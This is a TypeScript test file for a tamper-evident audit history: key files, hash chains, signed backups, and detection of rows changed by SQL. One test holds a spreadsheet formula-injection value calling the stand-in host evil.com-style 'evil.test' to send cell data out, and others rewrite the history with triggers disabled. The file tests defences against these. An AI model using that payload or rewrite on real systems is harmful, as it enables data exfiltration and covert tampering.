import { appendFileSync, mkdtempSync, readFileSync, rmSync, statSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeEach, expect, test, vi } from 'vitest'
import { manageAccountsOf } from '../../server/accounts/manage-accounts'
import type { DatabaseConnection } from '../../server/database/database-connection'
import { createHistoryKeyFile } from '../../server/history/new-history-key'
import { executeHistoryCommand, historyText } from '../../server/history/history-command'
import { migrateToModel } from '../../server/migrate/migrate-database'
import { addAuditEntries } from '../../server/sql/audit-chain'
import { accountChangeResource } from '../../server/store/account-audit-entry'
import { systemTable, sql, type Sql } from '../../server/sql/statement'
import { openSqlStore } from '../../server/sql/sql-store'
import type { StoredValues } from '../../server/store/store'
import { restoreFormula, neutralizeFormula } from '../../wire/formula-escaping'
import type { AuditEntry } from '../../server/store/stored-types'
import { quickHashes } from '../support/quick-hashes'
import { appYaml, yamlModel } from '../support/yaml-model'
import { backedUp, linesIn, restoredInto, rewritten } from './backups'
import { emptyDatabase, type StoreName } from './databases'

/* What the history proves to somebody who has its key, of a database whose owner may change everything. */

const [store = 'pglite'] = (process.env['DESKWRIGHT_STORES'] ?? 'pglite').split(',') as StoreName[]

const loanYaml = (more = '') => `resource: loan
fields:
  id: { type: integer, readOnly: true }
  amount: { type: number }
  holder: { type: text, personal: true }
  terms: { type: list, fields: { due: { type: text }, part: { type: number } } }
  status: { type: lifecycle }
${more}list: { columns: [id, amount, status], rowActions: [moves] }
calls: { list: { path: /loan, rows: rows } }
lifecycle:
  field: status
  start: asked
  calls: { status: { path: /loan/status, body: [id, status] } }
  statuses: { asked: { label: Asked }, paid: { label: Paid, end: true } }
  moves: { asked -> paid: }
`
const modelOf = (more = '') => yamlModel(appYaml(), { loan: loanYaml(more) })
const model = modelOf()

quickHashes()
const folder = mkdtempSync(join(tmpdir(), 'deskwright-proof-'))
const at = (name: string): string => join(folder, name)
afterAll(() => rmSync(folder, { recursive: true }))

let connection: DatabaseConnection
beforeEach(async () => {
  connection = await emptyDatabase(store, '?prepare=false')
})
afterEach(async () => {
  vi.unstubAllEnvs()
  await connection.close()
})

const lent = (): DatabaseConnection => ({ ...connection, close: async () => undefined })

/** What a command prints, and how it exits. */
const printed = async (run: (io: { out: Print; err: Print }) => Promise<number> | number) => {
  let text = ''
  const add = (more: string): void => void (text += more)
  const code = await run({ out: add, err: add })
  return { code, text }
}
type Print = (text: string) => void

const newKey = async (name: string): Promise<void> => {
  expect((await printed((io) => createHistoryKeyFile(at(name), io))).code).toBe(0)
  vi.stubEnv('HISTORY_KEY_FILE', at(name))
}

const migrate = (to = model) => {
  const migrating = {
    dir: '',
    database: connection,
    plan: false,
    drop: true,
    grants: null,
    renames: new Map(),
  }
  return migrateToModel(to, migrating, connection)
}

const check = (options: { since?: string; records?: boolean } = {}) => {
  const all = { json: false, all: false, personal: false, out: null, check: true, anchor: null }
  const asked = { since: null, records: false, ...options }
  return printed((io) => executeHistoryCommand({ database: lent(), ...all, ...asked }, io))
}

const anchored = async (name: string): Promise<string> => {
  const rest = {
    json: false,
    all: false,
    personal: false,
    out: null,
    check: false,
    since: null,
    records: false,
  }
  const { code } = await printed((io) =>
    executeHistoryCommand({ database: lent(), ...rest, anchor: at(name) }, io),
  )
  expect(code).toBe(0)
  return at(name)
}

const by = { who: 'ann', role: '', call: '/loan', key: null, request: '', at: 1 }
const [loan] = model.resources
if (!loan) throw new Error('there is no resource')

/** A line about a name under which there is no account, or none yet. */
const refusedLogin = (record: string): AuditEntry => ({
  ...by,
  resource: accountChangeResource,
  record,
  deed: 'change',
  field: null,
  from: null,
  to: null,
  changes: '{}',
})

const opened = () => openSqlStore(lent(), model, null)

const lend = async (id: number): Promise<void> => {
  const row = { id, amount: 777, holder: 'H', terms: [{ due: 'may', part: 1.5 }], status: 'asked' }
  const { problem } = await (await opened()).write(by, (records) => records.insert(loan, row))
  expect(problem).toBeUndefined()
}

const change = async (id: number, values: StoredValues): Promise<void> => {
  const { value } = await (
    await opened()
  ).write(by, async (records) => {
    const found = await records.find(loan, { id })
    return found && records.update(loan, found, values)
  })
  expect(value).not.toBeNull()
}

const readPassword = async (): Promise<string> => 'a long enough password'

const addAccount = async (name: string): Promise<void> => {
  const wanted = { deed: 'add' as const, name, roles: [], title: null }
  const { code } = await printed((io) =>
    manageAccountsOf(model, { database: lent(), wanted, readPassword }, io),
  )
  expect(code).toBe(0)
}

/** As the owner of the tables can. */
const behindItsBack = async (...statements: readonly Sql[]): Promise<void> => {
  const history = systemTable('history')
  await connection.rows(sql`alter table ${history} disable trigger all`)
  for (const statement of statements) await connection.rows(statement)
  await connection.rows(sql`alter table ${history} enable trigger all`)
}

const whole = /^\d+ lines, each as it was written/

test('a key is a file for its owner, and a newer one stands above it', async () => {
  await newKey('keys')
  expect(statSync(at('keys')).mode & 0o777).toBe(0o600)
  const first = readFileSync(at('keys'), 'utf8')
  await newKey('keys')
  expect(readFileSync(at('keys'), 'utf8')).toMatch(new RegExp(`^[0-9a-f]{64}\n${first}$`))
  writeFileSync(at('wrong'), 'secret\n')
  const { code, text } = await printed((io) => createHistoryKeyFile(at('wrong'), io))
  expect([code, text]).toEqual([1, expect.stringContaining('expected keys of 64')])
  expect(text).not.toContain('secret')
  expect(readFileSync(at('wrong'), 'utf8')).toBe('secret\n')
})

test('lines of before stay, migrate begins those with a key, and nobody goes on without it', async () => {
  await migrate()
  await lend(1)
  expect((await check()).text).toMatch(/^1 lines, .*those up to line 1 were made without a key/)
  await newKey('begun')
  expect(await check()).toMatchObject({ code: 1, text: expect.stringContaining('npm run migrate') })
  expect((await migrate()).lines.at(-1)).toMatch(
    /^the history is made with the key [0-9a-f]{16} now$/,
  )
  expect((await migrate()).lines).toHaveLength(1)
  await lend(2)
  expect(await check()).toEqual({ code: 0, text: expect.stringMatching(/^3 lines.*line 1 /) })
  vi.stubEnv('HISTORY_KEY_FILE', '')
  await expect(opened()).rejects.toThrow(/made with a key: HISTORY_KEY_FILE or HISTORY_KEY/)
  expect(await check()).toMatchObject({ code: 1, text: expect.stringContaining('HISTORY_KEY') })
  await newKey('foreign')
  await expect(opened()).rejects.toThrow(/made with the key [0-9a-f]{16}, which/)
  vi.stubEnv('HISTORY_KEY_FILE', at('begun'))
  await lend(3)
})

test('another key goes on behind the one before', async () => {
  await newKey('turned')
  await migrate()
  await lend(1)
  await newKey('turned')
  await lend(2)
  const signers = await connection.rows(sql`select distinct signer from ${systemTable('history')}`)
  expect(signers).toHaveLength(2)
  expect(await check()).toMatchObject({ code: 0, text: expect.stringMatching(whole) })
  writeFileSync(at('newest'), readFileSync(at('turned'), 'utf8').slice(0, 65))
  vi.stubEnv('HISTORY_KEY_FILE', at('newest'))
  expect(await check()).toMatchObject({
    code: 1,
    text: expect.stringMatching(/^line 1: .*the key/),
  })
})

/** As lines were before there were chains, which need nothing but the line before them. */
const rewriteAll = sql`do $$ declare r record; prev text := repeat('0', 64); j text; begin
  for r in select * from deskwright.history order by id loop
    r.who := 'somebody';
    j := '[' || r.id || ',' || r.at || ',' || to_json(r.who) || ',' || to_json(r.role) || ',' || to_json(r.call) || ',' ||
      coalesce(to_json(r.key)::text, 'null') || ',' || to_json(r.request) || ',' || to_json(r.resource) || ',' ||
      to_json(r.record) || ',' || to_json(r.deed) || ',' || coalesce(to_json(r.field)::text, 'null') || ',' ||
      coalesce(to_json(r."from")::text, 'null') || ',' || coalesce(to_json(r."to")::text, 'null') || ',' ||
      to_json(r.changes::text) || ',' || to_json(prev) || ']';
    update deskwright.history set who = r.who, signer = null, previous = prev, place = null, ends = null,
      hash = encode(sha256(convert_to(j, 'UTF8')), 'hex') where id = r.id returning hash into prev;
  end loop; end $$`

test('lines that are gone, or were written anew with all their hashes, are found', async () => {
  await migrate()
  for (const id of [1, 2, 3]) await lend(id)
  await behindItsBack(rewriteAll)
  // Without a key nobody can see it, and the words say so.
  expect(await check()).toMatchObject({ code: 0, text: expect.stringContaining('without a key') })
  await newKey('proof')
  await migrate()
  await lend(4)
  const since = await anchored('anchors')
  await lend(5)
  expect(await check({ since })).toMatchObject({ code: 0, text: expect.stringMatching(whole) })
  const history = systemTable('history')
  await connection.rows(sql`create table preserved as select * from ${history}`)
  const harms: readonly (readonly [Sql, RegExp])[] = [
    [sql`update ${history} set who = 'x' where id = 5`, /^line 5 is not what was written/],
    [sql`delete from ${history} where id = 5`, /^line 5 of chain 0 is missing/],
    [sql`delete from ${history} where id > 4`, /ends with line 4, and had come to line 5 at/],
    [sql`delete from ${history}`, /ends with line 0, and had come to line 5/],
    [rewriteAll, /the history was written anew/],
  ]
  for (const [harm, found] of harms) {
    await behindItsBack(harm)
    expect(await check({ since })).toMatchObject({ code: 1, text: expect.stringMatching(found) })
    await behindItsBack(
      sql`delete from ${history}`,
      sql`insert into ${history} select * from preserved`,
    )
  }
  await behindItsBack(rewriteAll)
  expect(await check()).toMatchObject({ code: 1, text: expect.stringContaining('made with a key') })
  const forged = readFileSync(since, 'utf8').replace(/ 5 /, ' 4 ')
  expect(await check({ since: forged })).toMatchObject({
    code: 1,
    text: expect.stringContaining('is not what was written'),
  })
})

test('a server tells anchors when it begins and ends, and each holds', async () => {
  await newKey('told')
  await migrate()
  const anchors: string[] = []
  const server = await openSqlStore(lent(), model, null, {
    listener: (anchor) => void anchors.push(anchor),
  })
  await lend(1)
  await server.close()
  expect(anchors.map((anchor) => Number(anchor.split(' ')[1]))).toEqual([1, 2])
  appendFileSync(at('log'), anchors.map((anchor) => `{"msg":"${anchor}"}\n`).join(''))
  expect((await check({ since: at('log') })).code).toBe(0)
})

test('no spreadsheet computes what somebody has put into a key', async () => {
  await migrate()
  const row = { id: 1, amount: -1, holder: 'H', terms: null, status: 'asked' }
  const link = '=HYPERLINK("http://evil.test/?"&A1,"ok")'
  await (await opened()).write({ ...by, key: link }, (records) => records.insert(loan, row))
  let text = ''
  for await (const line of historyText(connection, { json: false, all: false, personal: false }))
    text += line
  expect(text).toContain(`"'=HYPERLINK(""http://evil.test/?""&A1,""ok"")"`)
  expect(restoreFormula(neutralizeFormula(link))).toBe(link)
})

test('a record or an account that was changed by SQL is found and named', async () => {
  await newKey('records')
  await migrate()
  for (const id of [1, 2, 3, 4]) await lend(id)
  await change(2, { status: 'paid', amount: 12.5 })
  await connection.transaction((session) =>
    addAuditEntries(session, [refusedLogin('ann'), refusedLogin('nobody')]),
  )
  await addAccount('ann')
  await addAccount('bob')
  expect((await migrate(modelOf('  note: { type: text, default: none }\n'))).exit).toBe(0)
  expect(await check({ records: true })).toEqual({
    code: 0,
    text: expect.stringMatching(
      /each as it was written\n4 records and all accounts are as their lines say\n$/,
    ),
  })
  await connection.rows(sql`update loan set status = 'paid', amount = 88888 where id = 1`)
  await connection.rows(sql`update loan set terms = '[]' where id = 2`)
  await connection.rows(sql`delete from loan where id = 3`)
  await connection.rows(
    sql`update ${systemTable('account')} set roles = '["clerk"]' where username = 'ann'`,
  )
  await connection.rows(
    sql`update ${systemTable('account')} set username = 'eve' where username = 'bob'`,
  )
  const { code, text } = await check({ records: true })
  expect([code, text.split('\n').slice(1, -1)]).toEqual([
    1,
    [
      'loan 1: amount is 88888, and its last line says 777',
      'loan 1: status is "paid", and its last line says "asked"',
      'loan 2: terms is [], and its last line says [{"due":"may","part":1.5}]',
      'loan 3: is gone, and no line deletes it',
      'account "ann": roles is ["clerk"], and its last line says []',
      'account "eve": no line adds it',
      'account "bob": is gone, and no line deletes it',
    ],
  ])
})

/** What a restore into an empty database says. */
const into = async (file: string, unsigned = false) => {
  const target = await emptyDatabase(store)
  const { code, err } = await restoredInto(target, file, unsigned)
  await target.close()
  return [code, err]
}

test('a backup is signed, and what was not signed with the key does not come back', async () => {
  await migrate()
  await lend(1)
  expect((await backedUp(connection, at('old.backup'))).code).toBe(0)
  await newKey('backups')
  await migrate()
  expect((await backedUp(connection, at('signed.backup'))).out).toMatch(
    /^wrote .*\ndeskwright-anchor 2 /,
  )
  expect(linesIn(at('signed.backup')).join('\n')).toContain('"777"')
  expect(await into(at('signed.backup'))).toEqual([0, ''])
  const stripped = rewritten(at('signed.backup'), at('stripped'), (text) =>
    text.replace(/,"signer":"[^"]*","code":"[^"]*"/, ''),
  )
  const forged = rewritten(at('signed.backup'), at('forged'), (text) =>
    text.replace(/"code":"[0-9a-f]{4}/, '"code":"0000'),
  )
  expect(await into(stripped)).toEqual([1, expect.stringContaining('is not signed')])
  expect(await into(forged, true)).toEqual([1, expect.stringContaining('is not what was signed')])
  expect(await into(at('old.backup'))).toEqual([1, expect.stringContaining('--unsigned')])
  expect(await into(at('old.backup'), true)).toEqual([0, ''])
  vi.stubEnv('HISTORY_KEY_FILE', '')
  expect(await backedUp(connection, at('unsigned'))).toMatchObject({ code: 1, out: '' })
  await newKey('other')
  expect(await into(at('signed.backup'))).toEqual([
    1,
    expect.stringContaining('is signed with the key'),
  ])
})
